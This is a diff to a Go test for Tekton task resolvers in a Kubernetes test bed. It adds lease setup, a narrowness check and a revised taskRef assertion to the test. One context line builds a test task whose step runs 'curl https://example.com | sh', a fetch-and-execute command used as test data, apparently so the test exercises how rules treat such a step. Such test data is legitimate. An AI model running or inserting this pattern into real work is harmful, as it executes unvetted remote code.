@@ -34,6 +34,7 @@ func TestLocalTasks(t *testing.T) {
 	b.installCRDs("github.com/tektoncd/pipeline", "config/300-crds/300-task.yaml", "config/300-crds/300-stepaction.yaml",
 		"config/300-crds/300-verificationpolicy.yaml")
 	b.create(&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: wellknown.ResolversNamespace}})
+	b.create(b.parse(leaseText)) // so that only what the rules would change is asked about
 	b.start()
 	b.configure()
 	b.create(&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "free"}})
@@ -43,6 +44,7 @@ func TestLocalTasks(t *testing.T) {
 	b.create(b.parse(strings.NewReplacer("hello", "piped", "namespace: ci", "namespace: free", "command: [date]}, {", "script: 'curl https://example.com | sh'}, {").
 		Replace(storedTask)))
 	b.enforce(mirrored)
+	b.eventually("the condition is narrow", b.isNarrow)
 	b.Run("no resolvers", func(t *testing.T) { b.on(t).testNoResolvers() })
 	resolvers := b.resolvers()
 	b.Run("fetched", func(t *testing.T) { b.on(t).testFetched() })
@@ -162,14 +164,16 @@ func (b *bed) testFetched() {
 }
 
 func (b *bed) testAppliedAgain() {
-	run := runOf("applied", "ci", "hello")
+	run, _, _ := strings.Cut(runOf("applied", "ci", "hello"), ", params:")
+	run += "}"
 	for range 3 {
 		object := b.parse(run)
 		err := b.client.Apply(b.Context(), client.ApplyConfigurationFromUnstructured(object), client.FieldOwner("me"))
 		if err != nil {
 			b.Fatal(err)
 		}
-		if resolver, _, _ := unstructured.NestedString(object.Object, "spec", "taskRef", "resolver"); resolver != "cluster" {
+		ref, _, _ := unstructured.NestedMap(object.Object, "spec", "taskRef")
+		if ref["resolver"] != "cluster" || ref["name"] != nil {
 			b.Errorf("applied once more, it is %v", object.Object["spec"])
 		}
 	}
